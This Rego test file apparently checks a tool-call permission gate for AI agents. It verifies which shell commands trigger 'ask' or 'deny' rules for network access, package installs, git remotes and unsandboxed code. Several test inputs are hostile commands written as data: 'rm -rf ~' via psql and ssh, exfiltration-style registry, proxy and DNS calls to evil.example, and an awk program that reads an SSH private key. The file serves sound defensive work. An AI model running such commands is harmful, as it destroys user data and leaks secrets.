# Tests for ask.rego. Helpers live in toolgate_test.rego.
package toolgate_test

# ---- ask.git_remote ----

test_ask_git_remote_push if {
	doc := simple_call(["git", "push", "origin", "main"])
	rules(doc) == {"ask.git_remote"}
	verdict(doc) == "ask"
	some m in messages(doc, "ask.git_remote")
	startswith(m, "git push talks to a remote repository")
}

test_ask_git_remote_other_subcommands if {
	every argv in [
		["git", "pull", "--rebase"],
		["git", "fetch", "--all"],
		["git", "clone", "https://github.com/example/repo"],
		["git", "ls-remote", "origin"],
		["git", "-C", "vendor/lib", "push"],
		["git", "-c", "http.sslVerify=true", "fetch"],
		["git", "--git-dir", "other/.git", "pull"],
		["git", "archive", "--remote=ssh://host/repo.git", "HEAD"],
	] {
		"ask.git_remote" in rules(simple_call(argv))
	}
}

test_ask_git_remote_remote_and_submodule_changes if {
	"ask.git_remote" in rules(simple_call(["git", "remote", "add", "upstream", "https://github.com/up/repo"]))
	"ask.git_remote" in rules(simple_call(["git", "submodule", "update", "--init", "--recursive"]))
	"ask.git_remote" in rules(simple_call(["git", "remote", "set-url", "origin", "git@evil:x"]))
}

test_ask_git_remote_set_url_says_what_it_does if {
	some m in messages(simple_call(["git", "remote", "set-url", "origin", "git@evil:x"]), "ask.git_remote")
	contains(m, "points later pushes")
	not "ask.git_remote" in rules(simple_call(["git", "remote", "-v"]))
	not "ask.git_remote" in rules(simple_call(["git", "remote", "rename", "a", "b"]))
}

test_ask_package_install_two_word_entries if {
	"ask.package_install" in rules(simple_call(["uv", "pip", "install", "requests"]))
	"ask.package_install" in rules(simple_call(["uv", "sync"]))
	not "ask.package_install" in rules(simple_call(["uv", "pip", "list"]))
	not "ask.package_install" in rules(simple_call(["uv", "pip", "show", "requests"]))
}

test_ask_git_remote_not_for_local_git if {
	every argv in [
		["git", "status"],
		["git", "diff", "--stat"],
		["git", "log", "--oneline", "-5"],
		["git", "commit", "-m", "push the fix"],
		["git", "remote", "-v"],
		["git", "-C", "push", "status"],
		["git", "archive", "-o", "release.tar", "HEAD"],
		["git", "submodule", "status"],
	] {
		doc := simple_call(argv)
		rules(doc) == set()
		verdict(doc) == "allow"
	}
}

# ---- ask.network ----

test_ask_network_curl_to_a_file if {
	doc := exec_call("curl -o page.html https://example.com", [cmd(["curl", "-o", "page.html", "https://example.com"])], [wpath("page.html", "write", 0, "curl")])
	rules(doc) == {"ask.network"}
	verdict(doc) == "ask"
}

test_ask_network_other_clients if {
	every argv in [
		["wget", "https://example.com/a.tar.gz"],
		["ssh", "build-host", "uptime"],
		["nc", "-zv", "example.com", "443"],
		["gh", "pr", "list"],
		["kubectl", "get", "pods"],
		["scp", "report.txt", "user@host:/srv/"],
		["rsync", "-az", "dist/", "deploy@web1:/var/www/"],
		["rsync", "-a", "rsync://mirror.example/pub/", "mirror/"],
	] {
		"ask.network" in rules(simple_call(argv))
	}
}

test_ask_network_wrapped_and_nested if {
	# timeout 10 curl …, and curl inside sh -c
	doc := exec_call("timeout 10 curl -sI https://example.com; sh -c 'wget -q https://example.com'", [
		wrapped(["timeout"], ["curl", "-sI", "https://example.com"]),
		cmd(["sh", "-c", "wget -q https://example.com"]),
		in_context(cmd(["wget", "-q", "https://example.com"]), "nested-shell", 1),
	], [])
	rules(doc) == {"ask.network"}
	count(messages(doc, "ask.network")) == 2
}

test_ask_network_not_for_local_copies if {
	doc := exec_call("rsync -a src/ backup/ && scp a.txt b.txt", [cmd(["rsync", "-a", "src/", "backup/"]), cmd(["scp", "a.txt", "b.txt"])], [
		wpath("src", "read", 0, "rsync"),
		wpath("backup", "write", 0, "rsync"),
		wpath("a.txt", "read", 1, "scp"),
		wpath("b.txt", "write", 1, "scp"),
	])
	rules(doc) == set()
	verdict(doc) == "allow"
}

test_ask_network_not_for_local_tools_named_like_hosts if {
	doc := exec_call("ping-report --host example.com; echo curl", [cmd(["ping-report", "--host", "example.com"]), cmd(["echo", "curl"])], [])
	rules(doc) == set()
}

# ---- ask.package_install ----

test_ask_package_install_pip if {
	doc := simple_call(["pip", "install", "requests"])
	rules(doc) == {"ask.package_install"}
	verdict(doc) == "ask"
	some m in messages(doc, "ask.package_install")
	startswith(m, "pip install installs packages")
}

test_ask_package_install_managers if {
	every argv in [
		["npm", "install"],
		["npm", "i", "left-pad"],
		["pip3", "--quiet", "install", "-r", "requirements.txt"],
		["go", "install", "golang.org/x/tools/gopls@latest"],
		["go", "get", "example.com/mod@v1"],
		["cargo", "install", "ripgrep"],
		["apt-get", "install", "-y", "jq"],
		["yarn", "add", "react"],
		["gem", "install", "rails"],
	] {
		"ask.package_install" in rules(simple_call(argv))
	}
}

test_ask_package_install_python_m_pip_and_npx if {
	"ask.package_install" in rules(simple_call(["python3", "-m", "pip", "install", "--user", "black"]))
	"ask.package_install" in rules(simple_call(["python3.12", "-m", "pip", "install", "black"]))
	"ask.package_install" in rules(simple_call(["npx", "prettier", "--write", "."]))
}

test_ask_package_install_with_sudo_is_a_deny if {
	doc := exec_call("sudo apt-get install -y nginx", [wrapped(["sudo"], ["apt-get", "install", "-y", "nginx"])], [])
	"ask.package_install" in rules(doc)
	verdict(doc) == "deny"
}

test_ask_package_install_not_for_builds_and_tests if {
	every argv in [
		["pip", "list"],
		["pip", "show", "requests"],
		["npm", "test"],
		["npm", "run", "build"],
		["go", "build", "./..."],
		["go", "test", "./..."],
		["cargo", "build", "--release"],
		["python3", "-m", "pytest", "-q"],
		["python3", "-m", "pip", "list"],
		["apt-cache", "search", "jq"],
	] {
		doc := simple_call(argv)
		rules(doc) == set()
		verdict(doc) == "allow"
	}
}

# Regression test (bug fixed): ask.rego:46-51 (ask.package_install, first body) matches the package_managers entry against
# subcommand(c), the first argument that does NOT start with "-". data.json
# lists nix-env's install verbs as options ("-i", "--install"), which
# subcommand(c) can never return, so `nix-env -i hello` is allowed without
# asking.
#
test_ask_package_install_nix_env if {
	"ask.package_install" in rules(simple_call(["nix-env", "-i", "hello"]))
	"ask.package_install" in rules(simple_call(["nix-env", "--install", "hello"]))
}

# ---- ask.git_destructive ----

test_ask_git_destructive_rm_dot_git if {
	doc := exec_call("rm -rf .git", [cmd(["rm", "-rf", ".git"])], [wpath(".git", "delete", 0, "rm")])
	rules(doc) == {"ask.git_destructive"}
	verdict(doc) == "ask"
}

test_ask_git_destructive_piece_by_piece if {
	every rel in [".git/objects", ".git/refs/heads/main", ".git/HEAD", ".git/index", ".git/packed-refs", ".git/logs"] {
		doc := exec_call(concat(" ", ["rm -rf", rel]), [cmd(["rm", "-rf", rel])], [wpath(rel, "delete", 0, "rm")])
		"ask.git_destructive" in rules(doc)
	}
}

test_ask_git_destructive_not_for_lock_files_and_messages if {
	every rel in [".git/index.lock", ".git/refs/heads/main.lock", ".git/COMMIT_EDITMSG", ".git/rebase-merge", ".github/objects"] {
		doc := exec_call(concat(" ", ["rm -rf", rel]), [cmd(["rm", "-rf", rel])], [wpath(rel, "delete", 0, "rm")])
		not "ask.git_destructive" in rules(doc)
	}
}

test_ask_git_destructive_git_clean_x if {
	"ask.git_destructive" in rules(simple_call(["git", "clean", "-fdx"]))
	"ask.git_destructive" in rules(simple_call(["git", "clean", "-f", "-X"]))
	verdict(simple_call(["git", "clean", "-fdx"])) == "ask"
}

test_ask_package_install_initializers_and_bare_yarn if {
	every argv in [["npm", "init", "react-app", "x"], ["npm", "innit", "vite@latest"], ["yarn", "create", "next-app"], ["yarn"], ["yarn", "--frozen-lockfile"]] {
		"ask.package_install" in rules(simple_call(argv))
	}
	every argv in [["npm", "init", "-y"], ["npm", "init"], ["yarn", "test"], ["yarn", "run", "build"]] {
		not "ask.package_install" in rules(simple_call(argv))
	}
}

test_ask_network_go_list_modules if {
	every argv in [["go", "list", "-m", "-versions", "evil.example/x"], ["go", "list", "-m", "-u", "all"], ["go", "list", "-m", "example.com/m@latest"]] {
		"ask.network" in rules(simple_call(argv))
	}
	every argv in [["go", "list", "-m", "all"], ["go", "list", "./..."], ["go", "list", "-m"]] {
		not "ask.network" in rules(simple_call(argv))
	}
	"ask.package_install" in rules(simple_call(["go", "mod", "download"]))
}

test_ask_network_registry_named if {
	every argv in [
		["npm", "view", "x", "--registry=http://evil.example/data"],
		["pip", "index", "versions", "x", "-i", "http://evil.example/data"],
		["pip", "download", "--extra-index-url", "http://evil.example/", "x"],
		["gpg", "--keyserver", "hkp://data.evil.example", "--recv-keys", "0x1"],
		["npm", "view", "x", "--@s:registry=http://evil.example/"],
		["npm", "view", "x", "--reg=http://evil.example/data"],
		["pip", "download", "--index-u", "http://evil.example/", "x"],
	] {
		"ask.network" in rules(simple_call(argv))
	}
	proxied := exec_call("GOPROXY=http://evil.example/x go mod download", [object.union(cmd(["go", "mod", "download"]), {"env": {"GOPROXY": "http://evil.example/x"}})], [])
	"ask.network" in rules(proxied)
	every argv in [["npm", "test"], ["go", "test", "-f", "x", "./..."], ["npm", "run", "lint", "--", "-f", "json"], ["npm", "test", "--", "--registry=x"], ["ls", "--registry=x"]] {
		not "ask.network" in rules(simple_call(argv))
	}
}

test_ask_unsandboxed_db_shell_escapes if {
	every argv in [
		["psql", "-c", "\\! rm -rf ~"], ["psql", "--command=\\o |sh"], ["mysql", "-e", "system rm -rf ~"],
		["mariadb", "--execute=\\! id"], ["psql", "-f", "q.sql"], ["R", "-e", "system('id')"], ["guile", "-c", "(system \"id\")"],
	] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
	every argv in [["psql", "-c", "select 1"], ["mysql", "-e", "show tables"]] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}

test_ask_unsandboxed_exec_option if {
	boxed := exec_call("go vet -vettool=bin/tool ./...", [cmd(["go", "vet", "-vettool=bin/tool", "./..."])], [wpath("bin/tool", "exec", 0, "go")])
	not "ask.unsandboxed_code" in rules(boxed)
	"ask.unsandboxed_code" in rules(object.union(boxed, {"sandboxed": false}))
	system := object.union(exec_call("go vet -vettool=/usr/bin/x ./...", [cmd(["go", "vet", "-vettool=/usr/bin/x", "./..."])], [cpath("/usr/bin/x", "/usr/bin/x", "system", "exec", 0, "go")]), {"sandboxed": false})
	not "ask.unsandboxed_code" in rules(system)
}

test_ask_unsandboxed_workspace_search_path if {
	every path in ["bin:/usr/bin", ".:/usr/bin", ":/usr/bin", concat("", [ws, "/bin:/usr/bin"]), "./node_modules/.bin:/bin"] {
		doc := object.union(exec_call("git foo", [object.union(cmd(["git", "foo"]), {"env": {"PATH": path}})], []), {"sandboxed": false})
		"ask.unsandboxed_code" in rules(doc)
	}
	every path in ["/usr/local/bin:/usr/bin", "/home/u/.local/bin:/bin"] {
		doc := object.union(exec_call("git foo", [object.union(cmd(["git", "foo"]), {"env": {"PATH": path}})], []), {"sandboxed": false})
		not "ask.unsandboxed_code" in rules(doc)
	}
	boxed := exec_call("git foo", [object.union(cmd(["git", "foo"]), {"env": {"PATH": "bin:/usr/bin"}})], [])
	not "ask.unsandboxed_code" in rules(boxed)
	exported := object.union(with_facts(simple_call(["git", "foo"]), {"assigns": [{"name": "PATH", "value": "bin:/usr/bin", "dynamic": false, "cmd": -1}]}), {"sandboxed": false})
	"ask.unsandboxed_code" in rules(exported)
	unknown := object.union(with_facts(simple_call(["git", "foo"]), {"assigns": [{"name": "PATH", "value": "", "dynamic": true, "cmd": -1}]}), {"sandboxed": false})
	"ask.unsandboxed_code" in rules(unknown)
}

test_ask_dbus_call if {
	every argv in [
		["gdbus", "call", "--system", "--dest", "org.freedesktop.login1", "--object-path", "/org/freedesktop/login1", "--method", "org.freedesktop.login1.Manager.PowerOff", "false"],
		["busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "StartUnit", "ss", "x.service", "fail"],
		["dbus-send", "--system", "--dest=org.freedesktop.login1", "/org/freedesktop/login1", "org.freedesktop.login1.Manager.PowerOff", "boolean:false"],
		["qdbus", "org.kde.ksmserver", "/KSMServer", "logout", "0", "0", "0"],
	] {
		"ask.dbus_call" in rules(simple_call(argv))
	}
	every argv in [["busctl", "list"], ["gdbus", "introspect", "--session", "--dest", "x", "--object-path", "/"], ["qdbus"]] {
		not "ask.dbus_call" in rules(simple_call(argv))
	}
}

test_ask_autorun_config if {
	every rel in [".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/devcontainer.json", ".npmrc", "sub/.yarnrc.yml"] {
		doc := exec_call(concat("", ["echo x > ", rel]), [cmd(["echo", "x"])], [wpath(rel, "write", -1, "")])
		"ask.autorun_config" in rules(doc)
	}
	every rel in [".vscode/extensions.json", ".envrc", ".npmrc.example"] {
		doc := exec_call(concat("", ["echo x > ", rel]), [cmd(["echo", "x"])], [wpath(rel, "write", -1, "")])
		not "ask.autorun_config" in rules(doc)
	}
	read := exec_call("cat .npmrc", [cmd(["cat", ".npmrc"])], [wpath(".npmrc", "read", 0, "cat")])
	not "ask.autorun_config" in rules(read)
}

test_ask_autorun_config_without_case if {
	every rel in [".VSCODE/tasks.json", ".vscode/Settings.json", ".DEVCONTAINER/devcontainer.json", ".NPMRC", ".Yarnrc.yml"] {
		doc := exec_call(concat("", ["echo x > ", rel]), [cmd(["echo", "x"])], [wpath(rel, "write", -1, "")])
		"ask.autorun_config" in rules(doc)
	}
	doc := exec_call("echo x > .NPMRC.example", [cmd(["echo", "x"])], [wpath(".NPMRC.example", "write", -1, "")])
	not "ask.autorun_config" in rules(doc)
}

test_ask_container_workspace if {
	boxed := exec_call("docker run --rm -v .:/w alpine rm -rf /w", [cmd(["docker", "run", "--rm", "-v", ".:/w", "alpine", "rm", "-rf", "/w"])], [cpath(".", ws, "workspace_root", "write", 0, "docker")])
	doc := object.union(boxed, {"sandboxed": false})
	"ask.container_workspace" in rules(doc)
	verdict(doc) == "ask"
	not "ask.container_workspace" in rules(boxed) # the box has no daemon socket
	sub := object.union(exec_call("docker run --rm -v ./src:/w alpine ls /w", [cmd(["docker", "run", "--rm", "-v", "./src:/w", "alpine", "ls", "/w"])], [wpath("src", "write", 0, "docker")]), {"sandboxed": false})
	not "ask.container_workspace" in rules(sub)
}

test_ask_git_destructive_history_dropped_by_git if {
	every argv in [
		["git", "gc", "--prune=now"],
		["git", "gc", "--aggressive", "--prune=all"],
		["git", "prune"],
		["git", "reflog", "expire", "--expire=now", "--all"],
		["git", "reflog", "expire", "--expire-unreachable=now", "--all"],
		["git", "reflog", "delete", "HEAD@{1}"],
		["git", "update-ref", "-d", "refs/heads/main"],
		["git", "update-ref", "--stdin"],
	] {
		verdict(simple_call(argv)) == "ask"
	}
	every argv in [["git", "gc"], ["git", "gc", "--auto"], ["git", "reflog"], ["git", "reflog", "show"], ["git", "update-ref", "refs/heads/x", "HEAD"]] {
		not "ask.git_destructive" in rules(simple_call(argv))
	}
}

test_ask_git_destructive_not_for_other_dirs if {
	doc := exec_call("rm -rf .github/old vendor/lib/.git", [cmd(["rm", "-rf", ".github/old", "vendor/lib/.git"])], [
		wpath(".github/old", "delete", 0, "rm"),
		wpath("vendor/lib/.git", "delete", 0, "rm"),
	])
	rules(doc) == set()
	verdict(doc) == "allow"
}

test_ask_git_destructive_not_for_git_clean_without_x if {
	doc := simple_call(["git", "clean", "-fd"])
	rules(doc) == set()
	verdict(doc) == "allow"
}

test_unsandboxed_inline_code_asks if {
	doc := object.union(exec_call("python3 -c 'print(1)'", [cmd(["python3", "-c", "print(1)"])], []), {"sandboxed": false})
	d := decision(doc)
	d.decision == "ask"
	some r in d.reasons
	r.rule == "ask.unsandboxed_code"
}

test_sandboxed_inline_code_is_left_to_the_sandbox if {
	doc := object.union(exec_call("python3 -c 'print(1)'", [cmd(["python3", "-c", "print(1)"])], []), {"sandboxed": true})
	d := decision(doc)
	d.decision == "allow"
}

# ---- ask.package_install: modules fetched and run (red-team sweep, session 5) ----

test_ask_package_install_go_run_module_at_version if {
	every argv in [["go", "run", "github.com/x/y@latest"], ["go", "run", "golang.org/x/tools/cmd/stringer@v0.20.0", "-type", "T"], ["go", "test", "example.com/m/pkg@v1.2.3"]] {
		"ask.package_install" in rules(exec_call(concat(" ", argv), [object.union(cmd(argv), {"subcommand": argv[1]})], []))
	}
}

test_ask_package_install_not_for_local_go_run if {
	every argv in [["go", "run", "./cmd/app"], ["go", "test", "./...", "-run", "TestX"], ["go", "build", "-o", "bin/app", "."]] {
		not "ask.package_install" in rules(exec_call(concat(" ", argv), [object.union(cmd(argv), {"subcommand": argv[1]})], []))
	}
}

test_ask_package_install_uv_run_with if {
	argv := ["uv", "run", "--with", "rich", "python", "x.py"]
	"ask.package_install" in rules(exec_call(concat(" ", argv), [object.union(cmd(argv), {"subcommand": "run"})], []))
	plain := ["uv", "run", "pytest"]
	not "ask.package_install" in rules(exec_call("uv run pytest", [object.union(cmd(plain), {"subcommand": "run"})], []))
}

test_ask_unsandboxed_code_source if {
	doc := object.union(simple_call(["source", ".env"]), {"sandboxed": false})
	"ask.unsandboxed_code" in rules(doc)
	not "ask.unsandboxed_code" in rules(simple_call(["source", ".env"]))
}

# ---- unsandboxed: programs run from the workspace, environment dumps (red-team, session 7) ----

test_ask_unsandboxed_code_workspace_program if {
	every argv in [["./build.sh"], ["scripts/x.py", "-v"], ["node_modules/.bin/jest"]] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
		not "ask.unsandboxed_code" in rules(simple_call(argv))
	}
	every argv in [["/usr/bin/ls"], ["ls"], ["/usr/bin/git", "status"]] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}

test_ask_environment_dumps_unsandboxed if {
	every argv in [["env"], ["printenv"], ["set"], ["export", "-p"], ["declare", "-px"], ["export"]] {
		"ask.environment" in rules(object.union(simple_call(argv), {"sandboxed": false}))
		not "ask.environment" in rules(simple_call(argv))
	}
	every argv in [["printenv", "PATH"], ["set", "-e"], ["declare", "-f"], ["env", "-0", "X"]] {
		not "ask.environment" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}

test_persist_git_config_harmless_pager_and_editor if {
	every kv in ["core.pager=cat", "core.editor=true", "core.fsmonitor=false", "core.pager=less"] {
		not "persist.git_config" in rules(object.union(simple_call(["git", "-c", kv, "log"]), {"commands": [object.union(cmd(["git", "-c", kv, "log"]), {"subcommand": "log"})]}))
	}
	every kv in ["core.pager=sh -c x", "core.editor=vim -c '!id'", "core.fsmonitor=./x"] {
		"persist.git_config" in rules(simple_call(["git", "-c", kv, "log"]))
	}
}

# ---- loopback: every target must be this machine (red-team, session 7) ----

test_loopback_only_every_url_target if {
	every argv in [
		["curl", "http://localhost/", "http://evil.tld?a"], ["curl", "http://localhost/", "HTTP://EVIL.TLD/"],
		["curl", "http://localhost/", "http://134744072/"], ["curl", "http://localhost/", "evil"],
		["curl", "-K", "cfg", "http://localhost/"], ["wget", "-e", "http_proxy=evil:1", "http://localhost/"],
		["ssh", "-J", "u@evil.tld", "localhost"], ["ssh", "-o", "Hostname=evil.tld", "localhost"], ["nc", "-x", "1.2.3.4:1080", "localhost", "80"],
	] {
		"ask.network" in rules(simple_call(argv))
	}
	every argv in [
		["curl", "-s", "http://localhost:3000/health"], ["curl", "-fsSL", "-H", "Accept: application/json", "http://127.0.0.1:8080/api"],
		["curl", "-X", "POST", "-d", "{}", "localhost:3000/x"], ["wget", "-qO-", "http://localhost:8000/"], ["nc", "-z", "localhost", "5432"],
	] {
		not "ask.network" in rules(simple_call(argv))
	}
}

test_loopback_only_not_with_a_proxy_in_the_script if {
	doc := object.union(simple_call(["curl", "http://localhost/"]), {"assigns": [{"name": "ALL_PROXY", "value": "http://evil:1", "dynamic": false, "cmd": -1}]})
	"ask.network" in rules(doc)
}

# ---- unsandboxed: code given to make, emacs, gdb and lldb (session 9) ----

test_ask_unsandboxed_inline_code_options if {
	every argv in [
		["make", "-f", "-"], ["make", "-f-"], ["make", "--file=/dev/stdin"], ["make", "--makefile", "-", "all"],
		["make", "--eval=all: ; id"], ["make", "-E", "x: ; id", "x"], ["gmake", "--eval", "all: ; id"],
		["emacs", "--batch", "--eval", "(shell-command \"id\")"], ["emacs", "-batch", "-l", "x.el"], ["emacs", "--eval=(kill-emacs)"],
		["emacs", "--script", "x.el"], ["emacs", "-Q", "-f", "my-fn"], ["emacsclient", "-e", "(shell-command \"id\")"],
		["gdb", "-batch", "-ex", "shell id"], ["gdb", "--eval-command=shell id"], ["gdb", "-x", "cmds.gdb", "./a.out"],
		["lldb", "-o", "platform shell id"], ["lldb-18", "--source", "cmds.lldb"], ["lldb", "-b", "-ocommand"],
	] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
		not "ask.unsandboxed_code" in rules(simple_call(argv))
	}
	every argv in [
		["make"], ["make", "-f", "Makefile.ci", "test"], ["make", "-fbuild.mk"], ["make", "-C", "src", "-j4"], ["make", "-e"],
		["emacs", "--version"], ["emacs", "-fg", "red", "notes.txt"], ["emacs", "-fs", "x.txt"], ["emacsclient", "-n", "notes.txt"], ["gdb", "--version"], ["gdb", "-batch", "./a.out"], ["lldb", "--version"],
	] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}

# ---- container engines elsewhere, and builds given the SSH agent ----

test_ask_network_remote_container_engine if {
	every argv in [
		["docker", "-H", "tcp://build.example:2375", "build", "."],
		["docker", "-Htcp://build.example:2375", "ps"],
		["docker", "--context", "prod", "build", "."],
		["docker", "--host=ssh://me@box", "run", "alpine"],
		["podman", "--remote", "ps"],
		["podman", "--url", "ssh://me@box/run/podman.sock", "images"],
		["nerdctl", "-a", "/run/other.sock", "ps"],
	] {
		some m in messages(simple_call(argv), "ask.network")
		contains(m, "container engine")
	}
	doc := object.union(simple_call(["docker", "build", "."]), {"assigns": [{"name": "DOCKER_HOST", "value": "tcp://h:2375", "dynamic": false, "cmd": -1}]})
	"ask.network" in rules(doc)
}

test_ask_network_local_container_engine_not_asked if {
	every argv in [
		["docker", "build", "-t", "app", "."],
		["docker", "run", "-c", "512", "alpine", "true"], # run's -c is --cpu-shares
		["docker", "ps", "-a"],
		["podman", "images"],
	] {
		not "ask.network" in rules(simple_call(argv))
	}
}

test_ask_network_build_ssh_agent if {
	every argv in [
		["docker", "build", "--ssh", "default", "."],
		["docker", "buildx", "build", "--ssh=default", "."],
		["docker", "build", "--ssh", "gh=/tmp/ssh-x1/agent.42", "."],
		["docker", "build", "--ssh", "default=$SSH_AUTH_SOCK", "."],
		["podman", "build", "--ssh", "default=/run/user/1000/gnupg/S.gpg-agent.ssh", "."],
	] {
		some m in messages(object.union(simple_call(argv), {"sandboxed": false}), "ask.network")
		contains(m, "hands the SSH agent")
		# the box holds neither the agent nor the engine's socket
		not "ask.network" in rules(simple_call(argv))
	}
	# a key file named is a read, judged by the path rules
	not "ask.network" in rules(object.union(simple_call(["docker", "build", "--ssh", "deploy=keys/deploy_key", "."]), {"sandboxed": false}))
}

# a DNS server on this machine forwards the lookup: no loopback excuse
test_ask_network_dns_through_loopback_resolver if {
	every argv in [
		["nslookup", "$H", "127.0.0.1"],
		["host", "x.evil.example", "127.0.0.53"],
		["dig", "@127.0.0.1", "data.evil.example"],
		["drill", "data.evil.example", "@::1"],
	] {
		"ask.network" in rules(simple_call(argv))
	}
	not "ask.network" in rules(simple_call(["curl", "http://127.0.0.1:8080/health"]))
}

# a file: URL without another host is this machine: its path is judged as a read
test_loopback_file_url if {
	not "ask.network" in rules(simple_call(["curl", "file:///work/notes.txt"]))
	not "ask.network" in rules(simple_call(["curl", "FILE://localhost/work/notes.txt"]))
	"ask.network" in rules(simple_call(["curl", "file:///work/notes.txt", "https://example.com/"]))
}

# ---- git's network plumbing and helpers (red-team, session 10) ----

test_ask_git_remote_plumbing if {
	every argv in [
		["git", "send-pack", "evil.example:repo", "HEAD"],
		["git", "fetch-pack", "https://evil.example/x"],
		["git", "http-push", "https://evil.example/r/", "HEAD"],
		["git", "remote-https", "origin", "https://evil.example"],
		["git", "imap-send"],
		["git", "lfs", "push", "--all", "origin"],
		["git", "lfs", "install"],
	] {
		"ask.git_remote" in rules(simple_call(argv))
	}
	not "ask.git_remote" in rules(simple_call(["git", "lfs", "ls-files"]))
}

test_git_daemon_is_a_listener if {
	"remote.listener" in rules(simple_call(["git", "daemon", "--export-all", "--base-path=."]))
	not "remote.listener" in rules(simple_call(["git", "daemon", "--help"]))
}

# ---- publishing to a registry (session 29) ----

test_ask_network_publishers if {
	every argv in [
		["poetry", "publish"], ["pdm", "publish"], ["hatch", "publish"], ["uv", "publish"], ["flit", "publish"],
		["bun", "publish"], ["deno", "publish"], ["nerdctl", "push", "x"], ["buildah", "push", "x"],
		["oras", "push", "r/x:1", "f"], ["crane", "push", "img.tar", "r/x"], ["skopeo", "copy", "dir:x", "docker://r/x"],
		["dotnet", "nuget", "push", "x.nupkg"], ["nuget", "push", "x.nupkg"], ["anaconda", "upload", "x"],
		["vsce", "publish"], ["ovsx", "publish"], ["jfrog", "rt", "upload", "x", "repo/"],
		["mvn", "clean", "deploy"], ["mvnw", "-B", "release:perform"], ["gradle", "build", "publish"],
		["gradlew", ":lib:publishAllPublicationsToMavenCentralRepository"], ["gradlew", "uploadArchives"],
	] {
		"ask.network" in rules(simple_call(argv))
	}
	every argv in [
		["poetry", "build"], ["uv", "sync"], ["mvn", "package"], ["gradle", "build"], ["gradlew", "publishToMavenLocal"],
		["dotnet", "build"], ["deno", "test"], ["bun", "test"], ["crane", "version"],
	] {
		not "ask.network" in rules(simple_call(argv))
	}
}

# a login on this machine runs its command outside the sandbox: no
# loopback excuse
test_ask_network_login_to_loopback if {
	every argv in [["ssh", "localhost", "rm -rf ~"], ["ssh", "127.0.0.1", "ls"], ["autossh", "localhost"], ["mosh", "localhost"]] {
		"ask.network" in rules(simple_call(argv))
	}
	not "ask.network" in rules(simple_call(["curl", "http://localhost:8080/health"]))
}

# ---- unsandboxed: patches and archives whose names are not read (red-team round 8, session 31) ----

test_ask_unsandboxed_opaque_writes if {
	for_patch := with_facts(simple_call(["git", "apply"]), {"dynamic": [{"kind": "opaque_writes", "text": "git apply of a patch the analysis cannot read", "cmd": 0}]})
	unboxed := object.union(for_patch, {"sandboxed": false})
	"ask.unsandboxed_code" in rules(unboxed)
	some m in messages(unboxed, "ask.unsandboxed_code")
	contains(m, "the patch names")
	not "ask.unsandboxed_code" in rules(for_patch)
	for_tar := with_facts(simple_call(["tar", "xJf", "a.tar.xz"]), {"dynamic": [{"kind": "opaque_writes", "text": "tar extracting an archive the analysis cannot read", "cmd": 0}], "sandboxed": false})
	some n in messages(for_tar, "ask.unsandboxed_code")
	contains(n, "the archive names")
	not "dynamic.nested_script" in rules(for_tar)
}

test_ask_unsandboxed_code_not_for_version_queries if {
	every argv in [["bash", "--version"], ["python3", "-V"], ["node", "-v"], ["sh", "--help"], ["perl", "-v"]] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
	every argv in [["bash", "-v"], ["ruby", "-v"], ["python3", "--version", "x.py"], ["bash", "x.sh"]] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}

test_ask_unsandboxed_code_not_for_analysed_shell_scripts if {
	every argv in [["sh", "-c", "go test ./..."], ["bash", "-ec", "make build"], ["bash", "-euxc", "ls"]] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
	# a login shell (start-up files), another option, a script file, or a fact about the script
	every argv in [["bash", "-lc", "ls"], ["bash", "-c"], ["bash", "x.sh"], ["bash", "-i", "-c", "ls"]] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
	dyn := with_facts(simple_call(["sh", "-c", "$X"]), {"dynamic": [{"kind": "nested_script", "text": "$X", "cmd": 0}], "sandboxed": false})
	"ask.unsandboxed_code" in rules(dyn)
}

test_ask_unsandboxed_code_not_for_plain_awk if {
	every argv in [["awk", "{print $1}", "go.sum"], ["awk", "-F", ":", "{print $1}", "/etc/passwd"], ["gawk", "-v", "n=2", "NR==n", "README.md"], ["awk", "-F,", "{s+=$2} END {print s}", "x.csv"]] {
		not "ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
	every argv in [
		["awk", "{system($0)}", "cmds.txt"], ["awk", "{print | \"sh\"}", "x"], ["awk", "{print > \"/tmp/x\"}", "f"],
		["awk", "BEGIN {while ((\"id\" | getline l) > 0) print l}"], ["awk", "-f", "prog.awk", "x"], ["awk", "-fprog.awk"],
		["gawk", "-e", "BEGIN{}"], ["awk", "BEGIN {print ENVIRON[\"HOME\"]}"], ["gawk", "@load \"x\"; BEGIN{}"],
		["awk", "--exec", "p.awk"], ["awk", "$3 > 100", "f"],
		["awk", "BEGIN {ARGV[1] = \"/home/u/.ssh/id_rsa\"; ARGC = 2} {print}", "README.md"],
	] {
		"ask.unsandboxed_code" in rules(object.union(simple_call(argv), {"sandboxed": false}))
	}
}
